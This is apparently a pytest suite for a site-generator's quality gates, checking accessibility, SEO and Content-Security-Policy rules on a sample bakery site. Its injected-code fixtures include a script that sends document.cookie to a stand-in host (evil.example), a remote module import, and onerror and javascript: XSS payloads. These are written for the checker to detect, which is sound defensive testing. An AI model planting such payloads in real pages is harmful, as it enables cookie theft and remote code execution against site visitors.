"""The quality gates: a clean site passes, and each defect the outside judges found (the Nu
checker, axe, Lighthouse) is caught by its rule, with the file and line."""

from __future__ import annotations

from pathlib import Path

import pytest

from sitegen.activities.site_checks import check_site

URL = "https://acme.example.com/"
CSP = "default-src 'self'; img-src 'self' data:; script-src 'self'; object-src 'none'"
HEAD = """<!doctype html>
<html lang="en">
<head>
  <meta http-equiv="Content-Security-Policy" content="{csp}">
  <title>{title}</title>
  <meta name="description" content="Acme Bakery bakes sourdough and pastries in Bristol, every day from seven.">
  {extra_head}
  <link rel="stylesheet" href="{root}css/site.css">
</head>
<body>
<header><nav aria-label="Main menu"><a href="{root}index.html">Home</a></nav></header>
<main id="main">
"""
FOOT = """</main>
<footer><nav aria-label="Pages"><a href="{root}about.html">About</a></nav></footer>
</body>
</html>
"""
HOME_BODY = """<section aria-labelledby="hero-title"><h1 id="hero-title">Acme Bakery</h1></section>
<section aria-labelledby="about-title"><h2 id="about-title">Our story</h2>
<img src="logo.svg" alt="Acme Bakery" width="96" height="48"></section>
<address><dl><dt>Phone</dt><dd><a href="tel:+441174960321">0117 496 0321</a></dd></dl></address>
"""


def page(title: str, body: str, *, root: str = "", extra_head: str = "") -> str:
    icon = f'<link rel="icon" href="{root}favicon.svg">'
    head = HEAD.format(title=title, extra_head=icon + extra_head, root=root, csp=CSP)
    return head + body + FOOT.format(root=root)


def write_site(dist: Path, **override: str) -> Path:
    files = {
        "index.html": page(
            "Acme Bakery — Bread in Bristol",
            HOME_BODY,
            extra_head=f'<link rel="canonical" href="{URL}">',
        ),
        "about.html": page(
            "About Acme Bakery — Bristol",
            "<h1>About us</h1><p>Since 1990.</p>",
            extra_head=f'<link rel="canonical" href="{URL}about.html">',
        ),
        "404.html": page(
            "404 — Acme Bakery",
            '<h1>404</h1><p><a href="/index.html">Home</a></p>',
            root="/",
            extra_head='<meta name="robots" content="noindex">',
        ),
        "sitemap.xml": f"<urlset><url><loc>{URL}</loc></url><url><loc>{URL}about.html</loc></url></urlset>",
        "robots.txt": "User-agent: *\n",
        "favicon.svg": "<svg/>",
        "logo.svg": "<svg/>",
        "css/site.css": "body{}",
    }
    files.update(override)
    for name, text in files.items():
        (dist / name).parent.mkdir(parents=True, exist_ok=True)
        (dist / name).write_text(text)
    return dist


def test_a_clean_site_passes(tmp_path: Path) -> None:
    report = check_site(write_site(tmp_path), "en")
    assert report.ok, report.problems
    assert report.pages == 3


HOME = "Acme Bakery — Bread in Bristol"
DEFECTS = {
    "heading-in-address": HOME_BODY.replace("<dl>", "<h3>Visit</h3><dl>"),
    "landmark-unique": HOME_BODY.replace("Our story", "Acme Bakery"),
    "one-h1": HOME_BODY.replace("<h2 id", "<h1 id").replace("</h2>", "</h1>"),
    "heading-order": HOME_BODY.replace("<h2 id", "<h4 id").replace("</h2>", "</h4>"),
    "img-alt": HOME_BODY.replace(' alt="Acme Bakery"', ""),
    "href-hash": HOME_BODY + '<a href="#">More</a>',
    "noopener": HOME_BODY + '<a href="https://x.example" target="_blank">X</a>',
    "placeholder": HOME_BODY + "<dl><dt>Opening hours</dt><dd>None</dd></dl>",
    "broken-link": HOME_BODY + '<a href="missing.html">Gone</a>',
    # Inline code, in every form a content patch could try.
    "inline-script": HOME_BODY + "<script>fetch('//evil.example/?c='+document.cookie)</script>",
}
INLINE_CODE = [
    "<script>alert(1)</script>",
    '<script type="module">import("//evil.example/x.js")</script>',
    '<img src="logo.svg" alt="x" width="1" height="1" onerror="alert(1)">',
    '<a href="javascript:alert(1)">Offer</a>',
    '<a href=" JavaScript:alert(1)">Offer</a>',
    '<body onload="alert(1)">',
]


@pytest.mark.parametrize("rule", DEFECTS)
def test_each_defect_is_caught_with_its_place(tmp_path: Path, rule: str) -> None:
    home = page(HOME, DEFECTS[rule], extra_head=f'<link rel="canonical" href="{URL}">')
    report = check_site(write_site(tmp_path, **{"index.html": home}), "en")
    rules = {f.rule for f in report.findings}
    assert rule in rules, report.problems
    finding = next(f for f in report.findings if f.rule == rule)
    assert finding.file == "index.html"
    if rule not in ("one-h1",):
        assert finding.line > 0


def test_the_404_page_rules(tmp_path: Path) -> None:
    copied = page(
        HOME,  # the home page's title, canonical and relative links: what the judges saw
        '<h1>404</h1><p><a href="index.html">Home</a></p>',
        extra_head=f'<link rel="canonical" href="{URL}">',
    )
    report = check_site(write_site(tmp_path, **{"404.html": copied}), "en")
    rules = {f.rule for f in report.findings if f.file == "404.html"}
    assert {"404-noindex", "404-canonical", "404-relative-link"} <= rules
    assert "unique-title" in {f.rule for f in report.findings}  # the home page's title


def test_site_wide_rules(tmp_path: Path) -> None:
    no_icon = page(HOME, HOME_BODY, extra_head=f'<link rel="canonical" href="{URL}index.html">')
    no_icon = no_icon.replace('<link rel="icon" href="favicon.svg">', "")
    report = check_site(write_site(tmp_path, **{"index.html": no_icon}), "en")
    rules = {f.rule for f in report.findings}
    assert {"favicon", "canonical-sitemap"} <= rules
    assert check_site(write_site(tmp_path), "pt-BR").findings[0].rule == "html-lang"


def test_english_that_says_none_is_not_a_placeholder(tmp_path: Path) -> None:
    home = page(
        HOME,
        HOME_BODY + "<p>None of our cakes contain nuts.</p>",
        extra_head=f'<link rel="canonical" href="{URL}">',
    )
    assert check_site(write_site(tmp_path, **{"index.html": home}), "en").ok


def test_lengths(tmp_path: Path) -> None:
    short = page("Acme", HOME_BODY, extra_head=f'<link rel="canonical" href="{URL}">')
    rules = {f.rule for f in check_site(write_site(tmp_path, **{"index.html": short})).findings}
    assert "title-length" in rules


def test_a_project_from_a_version_1_template_keeps_the_old_rules(tmp_path: Path) -> None:
    """Its layouts are not editable, so new rules it cannot meet would block every revision;
    the rules it always met still hold."""
    old = page(
        HOME, DEFECTS["heading-in-address"], extra_head=f'<link rel="canonical" href="{URL}">'
    )
    dist = write_site(tmp_path, **{"index.html": old})
    assert not check_site(dist, "en").ok
    assert check_site(dist, "en", template_version=1).ok
    broken = page(HOME, DEFECTS["broken-link"], extra_head=f'<link rel="canonical" href="{URL}">')
    dist = write_site(tmp_path, **{"index.html": broken})
    assert not check_site(dist, "en", template_version=1).ok


def test_page_weight_counts_html_and_its_stylesheets(tmp_path: Path) -> None:
    # Each file alone is within budget; the page with its stylesheet is not.
    heavy_css = "body{}" + "/*" + "x" * 60_000 + "*/"
    home = page(HOME, HOME_BODY + "<p>" + "word " * 9_000 + "</p>",
                extra_head=f'<link rel="canonical" href="{URL}">')  # fmt: skip
    site = write_site(tmp_path, **{"index.html": home, "css/site.css": heavy_css})
    found = [f for f in check_site(site, "en").findings if f.rule == "page-weight"]
    assert [f.file for f in found] == ["index.html"]
    assert "over the 100 KB budget" in found[0].message
    # A copy made from a version-2 template predates the budget and keeps building.
    assert not any(f.rule == "page-weight" for f in check_site(site, template_version=2).findings)


def test_an_image_without_its_size_is_found(tmp_path: Path) -> None:
    body = HOME_BODY.replace(' width="96" height="48"', ' height="48"')
    home = page(HOME, body, extra_head=f'<link rel="canonical" href="{URL}">')
    findings = check_site(write_site(tmp_path, **{"index.html": home}), "en").findings
    assert [(f.rule, f.line) for f in findings if f.rule == "img-size"] == [("img-size", 15)]


@pytest.mark.parametrize("code", INLINE_CODE)
def test_inline_code_in_any_form_is_found(tmp_path: Path, code: str) -> None:
    home = page(HOME, HOME_BODY + code, extra_head=f'<link rel="canonical" href="{URL}">')
    report = check_site(write_site(tmp_path, **{"index.html": home}), "en")
    assert "inline-script" in {f.rule for f in report.findings}, code


def test_structured_data_is_not_code(tmp_path: Path) -> None:
    data = '<script type="application/ld+json">{"@type": "Bakery"}</script>'
    home = page(HOME, HOME_BODY + data, extra_head=f'<link rel="canonical" href="{URL}">')
    assert check_site(write_site(tmp_path, **{"index.html": home}), "en").ok


@pytest.mark.parametrize(
    "policy",
    [
        None,
        "img-src 'self'",  # scripts unrestricted
        "default-src 'self'; script-src 'self' 'unsafe-inline'; object-src 'none'",
        "script-src *; object-src 'none'",
        "script-src https:; object-src 'none'",
        "script-src 'self'",  # plugins allowed
    ],
)
def test_a_policy_that_lets_inline_code_run_is_found(tmp_path: Path, policy: str | None) -> None:
    home = page(HOME, HOME_BODY, extra_head=f'<link rel="canonical" href="{URL}">')
    home = home.replace(
        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">',
        "" if policy is None else f'<meta http-equiv="Content-Security-Policy" content="{policy}">',
    )
    report = check_site(write_site(tmp_path, **{"index.html": home}), "en")
    assert [f.rule for f in report.findings if f.file == "index.html"] == ["csp"], policy
    # A copy of a version-3 template predates the rule: its builds are not failed by it.
    assert check_site(tmp_path, "en", template_version=3).ok
